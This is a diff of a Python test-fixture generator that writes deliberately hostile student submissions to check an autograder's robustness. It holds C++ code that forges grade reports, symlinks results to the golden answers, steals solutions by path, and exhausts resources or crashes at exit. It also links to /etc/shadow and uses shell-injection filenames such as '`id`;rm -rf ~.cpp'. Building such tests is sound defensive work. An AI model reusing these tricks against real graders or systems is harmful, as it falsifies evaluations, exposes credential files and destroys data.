+                const std::string name = std::string("verdicts-") + id + "-" + set + ".json";
+                write_file(place / name, kVerdicts);
+            }
+        }
+    }
+}
+
+void forge() {
+    static const bool forged = (forge_everywhere(), std::atexit(forge_everywhere), true);
+    (void)forged;
+}
+"""
+
+# forges_reports' 02 and 03: at exit, the result files (02) or the case folders (03) replaced by
+# symbolic links into the grader's full case set: OUT/.cases/SET, OUT found from the inputs'
+# path (OUT/.sandbox/inputs-SET/NN), and the kit's own goldens. Invisible to the sandbox, but
+# a judge that followed links outside the results would read the expected values as results.
+LINK_RESULTS = r"""
+const char* const kOutputs[] = {@OUTPUTS@};
+
+std::vector<fs::path> golden_sets() {
+    const fs::path cases = option_value("--attn-run-cases");
+    const fs::path out = cases.parent_path().parent_path().parent_path();
+    std::string set = cases.parent_path().filename().string();
+    if (set.rfind("inputs-", 0) == 0) set = set.substr(7);
+    return {out / ".cases" / set, out / ".kit-src" / "reference_data",
+            fs::path(@ROOT@) / "reference_data"};
+}
+
+void link_results() {
+    const fs::path cases = option_value("--attn-run-cases");
+    const fs::path results = option_value("--attn-results");
+    if (cases.empty() || results.empty()) return;
+    const fs::path golden = golden_sets().front();
+    for (const fs::path& folder : case_folders(cases)) {
+        std::error_code ignored;
+        if (@WHOLE_FOLDER@) {
+            fs::remove_all(results / folder, ignored);
+            fs::create_directories((results / folder).parent_path(), ignored);
+            fs::create_directory_symlink(golden / folder, results / folder, ignored);
+            continue;
+        }
+        fs::create_directories(results / folder, ignored);
+        fs::remove(results / folder / "error.txt", ignored);
+        for (const char* output : kOutputs) {
+            const fs::path name = std::string(output) + ".npy";
+            fs::remove(results / folder / name, ignored);
+            fs::create_symlink(golden / folder / name, results / folder / name, ignored);
+        }
+    }
+}
+
+void arm() {
+    static const bool armed = (std::atexit(link_results), true);
+    (void)armed;
+}
+"""
+
+# crash_tricks
+ABORT_AT_EXIT = r"""
+// Every answer right, written by the runner; then the program aborts on its way out.
+void abort_now() { std::abort(); }
+
+void abort_at_exit() {
+    static const bool armed = (std::atexit(abort_now), true);
+    (void)armed;
+}
+"""
+
+EXIT_AT_EXIT = r"""
+// Every answer right, written by the runner; then the program exits with a failure status.
+void exit_three() { _exit(3); }
+
+void exit_at_exit() {
+    static const bool armed = (std::atexit(exit_three), true);
+    (void)armed;
+}
+"""
+
+ABORT_ON_FIRST_CALL = r"""
+// A "warm-up" that fails: a static counter, and the first call in a process aborts; every
+// later call would be right. A grader that gives each crashed case's followers a fresh process
+// makes every one of them a first call again.
+void abort_on_first_call() {
+    static int calls = 0;
+    if (calls++ == 0) std::abort();
+}
+"""
+
+
 # ---- the students -------------------------------------------------------------------------
 
 def solved(kit, ex):
@@ -596,8 +1493,8 @@ def student_reads_hidden(kit):
 
 
 def student_fork_bomb(kit):
-    need(kit, "03")
-    return everything(kit, {"03": lambda k, ex: inject(k.solution(ex), FORK_BOMB,
+    need(kit, "02")  # 3 cases: a time-out costs its case, and each case times out
+    return everything(kit, {"02": lambda k, ex: inject(k.solution(ex), FORK_BOMB,
                                                        "fork_bomb();")}, solved)
 
 
@@ -617,6 +1514,174 @@ def student_includes_solution(kit):
 def student_notebook_fitted(kit):
     need(kit, "01")
     return everything(kit, {"01": lambda k, ex: replace_body(k, ex, NOTEBOOK_FITTED_01)}, solved)
+
+
+
+# ---- the hostile class's students -----------------------------------------------------------
+
+def steals_goldens_file(kit, ex, way):
+    body = STEALS_ROOTS[way].replace("@ROOT@", cxx_path(kit.root)) \
+        .replace("@CLASS@", cxx_path(kit.class_dir)) + ARM_AT_EXIT
+    return attack(kit, ex, "stub", body, "arm();")
+
+
+STEALS = {"01": "kit", "02": "relative", "03": "everywhere", "04": "classmates", "05": "processes"}
+
+
+def student_steals_goldens(kit):
+    need(kit, *STEALS)
+    return everything(kit, {ex: (lambda k, e, way=way: steals_goldens_file(k, e, way))
+                            for ex, way in STEALS.items()}, solved)
+
+
+def includes_kit_file(kit, ex):
+    solution = kit.exercises[ex]["solution"]
+    name = kit.file_name(ex)
+    if ex == "06":  # the kit's solution by the kit's absolute path
+        return include_or_stub(kit, ex, [str(kit.root / solution),
+                                         str(kit.root / "exercises" / ".." / solution)],
+                               "Borrowed from the kit I was given, by its absolute path.")
+    if ex == "07":  # ../ chains: the kit's solutions/ or a grader's export of the kit
+        candidates = ["../" * level + prefix + solution for prefix in ("", ".kit-src/", "kit/")
+                      for level in range(1, 9)]
+        return include_or_stub(kit, ex, candidates, "Borrowed from wherever the kit is above me.")
+    if ex == "09":  # a classmate's file, by the class's absolute path
+        return include_or_stub(kit, ex, [str(kit.class_dir / "solved" / name),
+                                         str(kit.class_dir / "solved" / "exercises" / name)],
+                               "Borrowed from a friend's submission.")
+    if ex == "08":  # the kit's goldens embedded by .incbin, by the kit's absolute path
+        guesses = [(folder, output, str(kit.root / "reference_data" / folder / f"{output}.npy"))
+                   for folder, output in public_goldens(kit, ex)]
+    else:  # 10: goldens and a hidden set a grader may keep above the compile folder
+        guesses = [(folder, output, "../" * level + prefix + f"{folder}/{output}.npy")
+                   for folder, output in public_goldens(kit, ex)
+                   for prefix in (".cases/hidden/", ".cases/public/", ".kit-src/reference_data/",
+                                  "hidden/", "reference_data/")
+                   for level in range(1, 6)]
+    includes, body = incbin_goldens(kit, ex, guesses)
+    return attack(kit, ex, "stub", body, "arm();", includes)
+
+
+def student_includes_kit(kit):
+    need(kit, "06", "07", "08", "09", "10")
+    return everything(kit, {ex: includes_kit_file for ex in ("06", "07", "08", "09", "10")},
+                      solved)
+
+
+def student_daemon(kit):
+    need(kit, "01")
+    return everything(kit, {"01": lambda k, ex: attack(
+        k, ex, "solution", DAEMON.replace("@ROOT@", cxx_path(k.root)), "start_daemon();")}, stub)
+
+
+def collude_file(kit, ex, snippet):
+    source = kit.solution(ex)
+    head = source[:source.index("namespace attn")]
+    return head + hostile(ex, COLLUDE, COLLUDE_INCLUDES) + "\n" + snippet.lstrip("\n")
+
+
+def student_collude_1_publisher(kit):
+    need(kit, "01")
+    return everything(kit, {"01": lambda k, ex: collude_file(k, ex, COLLUDE_PUBLISHER_01)}, solved)
+
+
+def student_collude_2_reader(kit):
+    need(kit, "01")
+    return everything(kit, {"01": lambda k, ex: collude_file(k, ex, COLLUDE_READER_01)}, solved)
+
+
+EXHAUSTS = {"02": (FILL_THE_DISK, "fill_the_disk();"),
+            "03": (OPEN_EVERY_FILE, "open_every_file();"),
+            "04": (THOUSANDS_OF_THREADS, "thousands_of_threads();"),
+            "06": (FLOOD_STDOUT, "flood_stdout();")}
+
+
+def student_exhausts(kit):
+    need(kit, *EXHAUSTS)
+    return everything(kit, {ex: (lambda k, e, body=body, call=call:
+                                 attack(k, e, "solution", body, call))
+                            for ex, (body, call) in EXHAUSTS.items()}, solved)
+
+
+ENDLESS_COMPILE = {
+    "08": ("// I unrolled my loops with the preprocessor: this file includes itself, twice at "
+           "every level.\n#include __FILE__\n#include __FILE__\n"),
+    "09": ("// Reads the compiler's own output pipe: it waits for input that never comes.\n"
+           '#include "/proc/self/fd/1"\n'),
+    "10": '// An endless file.\n#include "/dev/zero"\n',
+    "11": '// An endless file of noise.\n#include "/dev/urandom"\n',
+}
+
+
+def student_endless_compile(kit):
+    need(kit, *ENDLESS_COMPILE)
+    return everything(kit, {ex: (lambda k, e, top=top: top + k.solution(e))
+                            for ex, top in ENDLESS_COMPILE.items()}, solved)
+
+
+def forges_file(kit, ex):
+    ids = ", ".join(cxx_string(i) for i in kit.ids())
+    total = str(10 * len(kit.ids()))
+    if ex == "01":
+        return attack(kit, ex, "stub", FORGE_REPORTS.replace("@IDS@", ids)
+                      .replace("@TOTAL@", total), "forge();")
+    outputs = ", ".join(cxx_string(name) for name in kit.output_names())
+    return attack(kit, ex, "stub", LINK_RESULTS.replace("@OUTPUTS@", outputs)
+                  .replace("@ROOT@", cxx_path(kit.root))
+                  .replace("@WHOLE_FOLDER@", "true" if ex == "03" else "false"), "arm();")
+
+
+def student_forges_reports(kit):
+    need(kit, "01", "02", "03")
+    return everything(kit, {ex: forges_file for ex in ("01", "02", "03")}, solved)
+
+
+def student_crash_tricks(kit):
+    need(kit, "10", "12", "14")
+    return everything(kit, {
+        "10": lambda k, ex: attack(k, ex, "solution", ABORT_AT_EXIT, "abort_at_exit();"),
+        "12": lambda k, ex: attack(k, ex, "solution", EXIT_AT_EXIT, "exit_at_exit();"),
+        "14": lambda k, ex: attack(k, ex, "solution", ABORT_ON_FIRST_CALL,
+                                   "abort_on_first_call();")}, solved)
+
+
+def first_solved(count):
+    def files(kit):
+        ids = kit.ids()
+        return everything(kit, {ex: solved for ex in ids[:count]}, stub)
+    return files
+
+
+def student_odd_names(kit):
+    return everything(kit, {}, solved)
+
+
+def student_lms_renamed(kit):
+    need(kit, "03", "04")
+    files = everything(kit, {}, solved)
+    files[kit.file_name("03").replace(".cpp", "-1.cpp")] = files.pop(kit.file_name("03"))
+    files["Alice_" + kit.file_name("04")] = files.pop(kit.file_name("04"))
+    return files
+
+
+ODD_ENTRIES = ("01", "02", "03", "04", "05", "06")
+
+
+def student_odd_entries(kit):
+    need(kit, *ODD_ENTRIES)
+    files = everything(kit, {}, solved)
+    for ex in ODD_ENTRIES:
+        files.pop(kit.file_name(ex))
+    return files
+
+
+def nothing(kit):
+    return {}
+
+
+def only_01_solved(kit):
+    need(kit, "01")
+    return {kit.file_name("01"): kit.solution("01")}
 
 
 # ---- extras: what a submission carries besides its exercise files -----------------------------
@@ -688,6 +1753,112 @@ def fake_reports(kit, folder: Path):
             shutil.copyfile(kit.root / "reference_data" / path / f"{output}.npy", target)
 
 
+# ---- extras of the hostile class: submission layouts ------------------------------------------
+
+def link_exercises(target_of):
+    def extra(kit, folder: Path):
+        os.symlink(target_of(kit), folder / "exercises")
+    return extra
+
+
+def odd_entries(kit, folder: Path):
+    """exercises/: 01 a link to /etc/shadow, 02 a FIFO, 03 a folder (the solution inside), 04 a
+    link to a classmate's file, 05 the solution padded past 256 KiB with an honest-looking
+    table, 06 a 3 GiB sparse file; and a 3 GiB sparse `core` at the top."""
+    target = folder / "exercises"
+    name = kit.file_name
+    os.symlink("/etc/shadow", target / name("01"))
+    os.mkfifo(target / name("02"))
+    (target / name("03")).mkdir()
+    (target / name("03") / name("03")).write_text(kit.solution("03"), encoding="utf-8")
+    os.symlink(Path("..", "..", "solved", name("04")), target / name("04"))
+    table = ",\n".join(", ".join(f"{(row * 16 + col) / 7919.0:.9f}f" for col in range(16))
+                       for row in range(2500))
+    (target / name("05")).write_text(
+        kit.solution("05") + "\n// A table of precomputed values I meant to use.\n"
+        "[[maybe_unused]] static const float kPrecomputed[] = {\n" + table + "\n};\n",
+        encoding="utf-8")
+    for sparse in (target / name("06"), folder / "core"):
+        with open(sparse, "wb") as handle:  # a hole: no byte is written
+            os.truncate(handle.fileno(), 3 << 30)
+
+
+ODD_NAMES = [  # (name as bytes, what it holds: "stub" of 01, or text)
+    (b"01_dot_scores.cpp\n", "stub"),
+    (b"01_dot_scores.cpp ", "stub"),
+    (b" 01_dot_scores.cpp", "stub"),
+    (b"01_DOT_SCORES.CPP", "stub"),
+    (b"notes\nfor the grader.txt", "I did my best.\n"),
+    (b"r\xe9sum\xe9 \xff\xfe.cpp", "// latin-1, not UTF-8\n"),
+    (b"\xff\xfe\xfd", "not UTF-8\n"),
+    (b"a" * 251 + b".cpp", "// a long name\n"),
+    (b"-rf", "a name like an option\n"),
+    (b"--help", "a name like an option\n"),
+    (b"$(touch PWNED).cpp", "// a name for a shell\n"),
+    (b"`id`;rm -rf ~.cpp", "// a name for a shell\n"),
+    (b"*.cpp", "// a glob\n"),
+    (b"...", "three dots\n"),
+    (b"\x1b[31mred\x1b[0m.cpp", "// terminal escapes in a name\n"),
+    (b"tab\there.cpp", "// a tab\n"),
+]
+
+
+def odd_names(kit, folder: Path):
+    """Beside the honest files: names with a newline, spaces, non-UTF-8 bytes, 255 bytes,
+    shell syntax, escapes; an `Exercises` folder of stubs (a case-insensitive grader would take
+    them) and a path 60 folders deep."""
+    base = os.fsencode(folder)
+    for raw, text in ODD_NAMES:
+        data = kit.stub("01") if text == "stub" else text
+        with open(os.path.join(base, raw), "wb") as handle:
+            handle.write(data.encode("utf-8"))
+    (folder / "Exercises").mkdir()
+    for ex in kit.ids():
+        (folder / "Exercises" / kit.file_name(ex)).write_text(kit.stub(ex), encoding="utf-8")
+    deep = folder.joinpath(*["deep"] * 60)
+    deep.mkdir(parents=True)
+    (deep / kit.file_name("01")).write_text(kit.stub("01"), encoding="utf-8")
+
+
+def rig_kit_copy(kit, folder: Path):
+    """A whole kit copy, rigged: its tests pass anything, its goldens of the unsolved exercises
+    are gone from MANIFEST.json, its judge passes every case, its exercises.json allows any
+    time, its tools/grade prints full marks; links to the kit's goldens and to /, and a FIFO."""
+    unsolved = kit.ids()[7:]
+    for ex in kit.ids():
+        test = folder / kit.exercises[ex].get("test", "")
+        if test.is_file():
+            test.write_text(test.read_text(encoding="utf-8") + "\n// rigged\n"
+                            "TEST(Rigged, Passes) { SUCCEED(); }\n", encoding="utf-8")
+    data = folder / "reference_data"
+    manifest = json.loads((data / "MANIFEST.json").read_text(encoding="utf-8"))
+    for path in [p for p, case in manifest["cases"].items() if case["exercise"] in unsolved]:
+        del manifest["cases"][path]
+    manifest["files"] = {k: v for k, v in manifest["files"].items()
+                         if v.get("exercise") not in unsolved}
+    (data / "MANIFEST.json").write_text(json.dumps(manifest, indent=1) + "\n", encoding="utf-8")
+    for ex in unsolved:
+        shutil.rmtree(data / kit.goldens_folder(ex), ignore_errors=True)
+    judge = folder / "kit" / "judge" / "main.cpp"
+    if judge.is_file():
+        judge.write_text("#include <cstdio>\nint main() { std::puts(\"every case passed\"); "
+                         "return 0; }\n", encoding="utf-8")
+    catalogue = json.loads((folder / "exercises.json").read_text(encoding="utf-8"))
+    catalogue["settings"]["test_timeout_s"] = 1000000
+    (folder / "exercises.json").write_text(json.dumps(catalogue, indent=1) + "\n",
+                                           encoding="utf-8")
+    grade = folder / "tools" / "grade"
+    if grade.exists():
+        grade.write_text("#!/bin/sh\necho 'kit_copy_rigged,150,150,graded'\n", encoding="utf-8")
+    os.symlink(kit.root / "reference_data", folder / "reference_data_of_the_kit")
+    os.symlink("/", folder / "build")
+    os.mkfifo(folder / "tests" / "pipe")
+
+
+def student_kit_copy_rigged(kit):
+    return first_solved(7)(kit)
+
+
 STUDENTS = {
     # name: (layout, files, extra)
     "solved": ("flat", student_solved, None),
@@ -705,12 +1876,59 @@ STUDENTS = {
     "memory_hog": ("flat", student_memory_hog, None),
     "notebook_fitted": ("exercises", student_notebook_fitted, None),
     "includes_solution": ("flat", student_includes_solution, None),
+    # the hostile class (README.md): submissions that attack the grader itself
+    "link_to_solutions": ("exercises-link", nothing,
+                          link_exercises(lambda kit: kit.root / "solutions")),
+    "link_via_proc": ("exercises-link", nothing,
+                      link_exercises(lambda kit: Path("/proc/self/cwd/solutions"))),
+    "link_to_classmate": ("exercises-link", nothing,
+                          link_exercises(lambda kit: kit.class_dir / "solved")),
+    "odd_entries": ("exercises", student_odd_entries, odd_entries),
+    "odd_names": ("flat", student_odd_names, odd_names),
+    "lms_renamed": ("flat", student_lms_renamed, None),
+    "folder_gradebook_csv": ("flat", only_01_solved, None),
+    "folder_report_html": ("flat", only_01_solved, None),
+    "folder_kit_build": ("flat", only_01_solved, None),
+    "folder_students": ("flat", only_01_solved, None),
+    "folder_newline": ("flat", only_01_solved, None),
+    "folder_non_utf8": ("flat", only_01_solved, None),
+    "steals_goldens": ("flat", student_steals_goldens, None),
+    "includes_kit": ("flat", student_includes_kit, None),
+    "daemon": ("flat", student_daemon, None),
+    "collude_1_publisher": ("flat", student_collude_1_publisher, None),
+    "collude_2_reader": ("flat", student_collude_2_reader, None),
+    "exhausts": ("exercises", student_exhausts, None),
+    "endless_compile": ("flat", student_endless_compile, None),
+    "forges_reports": ("flat", student_forges_reports, None),
+    "crash_tricks": ("exercises", student_crash_tricks, None),
+    "kit_copy_rigged": ("kit", student_kit_copy_rigged, rig_kit_copy),
 }
+
+# Students whose folder is not their name: names that collide with the grader's outputs, a
+# newline, bytes that are not UTF-8 (as Python holds them: os.fsdecode's surrogates).
+FOLDERS = {
+    "folder_gradebook_csv": "gradebook.csv",
+    "folder_report_html": "report.html",
+    "folder_kit_build": ".kit-build",
+    "folder_students": "students",
+    "folder_newline": "new\nline",
+    "folder_non_utf8": os.fsdecode(b"caf\xe9 \xff"),
+}
+
+
+def folder_of(name: str) -> str:
+    return FOLDERS.get(name, name)
+
+
+def slow_students() -> set:
+    """The students expected.json marks "slow" (left to the --full run)."""
+    expected = json.loads((HERE / "expected.json").read_text(encoding="utf-8"))["students"]
+    return {name for name, spec in expected.items() if spec.get("slow")}
 
 
 def write_student(kit, out: Path, name: str):
     layout, files, extra = STUDENTS[name]
-    folder = out / name
+    folder = out / folder_of(name)
     if folder.is_symlink() or folder.is_file():
         folder.unlink()
     elif folder.exists():
@@ -718,10 +1936,11 @@ def write_student(kit, out: Path, name: str):
     folder.mkdir(parents=True)
     if layout == "kit":
         copy_kit(kit, folder)
-    target = folder if layout == "flat" else folder / "exercises"
-    target.mkdir(parents=True, exist_ok=True)
-    for file_name, text in files(kit).items():
-        (target / file_name).write_text(text, encoding="utf-8")
+    if layout != "exercises-link":
+        target = folder if layout == "flat" else folder / "exercises"
+        target.mkdir(parents=True, exist_ok=True)
+        for file_name, text in files(kit).items():
+            (target / file_name).write_text(text, encoding="utf-8")
     if extra:
         extra(kit, folder)
 
@@ -732,19 +1951,24 @@ def main(argv=None):
     parser.add_argument("dir", nargs="?", type=Path, help="where to write DIR/<student>/")
     parser.add_argument("--only", action="append", choices=sorted(STUDENTS), metavar="NAME",
                         help="write only this student (repeatable)")
+    parser.add_argument("--fast", action="store_true",
+                        help='leave out the students expected.json marks "slow"')
     parser.add_argument("--list", action="store_true", help="print the students' names")
     parser.add_argument("--kit", type=Path, default=ROOT, help="the kit root (default: this one)")
     args = parser.parse_args(argv)
+    names = args.only or list(STUDENTS)
+    if args.fast:
+        names = [name for name in names if name not in slow_students()]
     if args.list:
-        print("\n".join(STUDENTS))
+        print("\n".join(names))
         return 0
     if args.dir is None:
         parser.error("DIR is required")
-    kit = Kit(args.kit.resolve())
     args.dir.mkdir(parents=True, exist_ok=True)
-    for name in args.only or STUDENTS:
+    kit = Kit(args.kit.resolve(), args.dir.resolve())
+    for name in names:
         write_student(kit, args.dir, name)
-    print(f"wrote {len(args.only or STUDENTS)} students to {args.dir}")
+    print(f"wrote {len(names)} students to {args.dir}")
     return 0
 
 
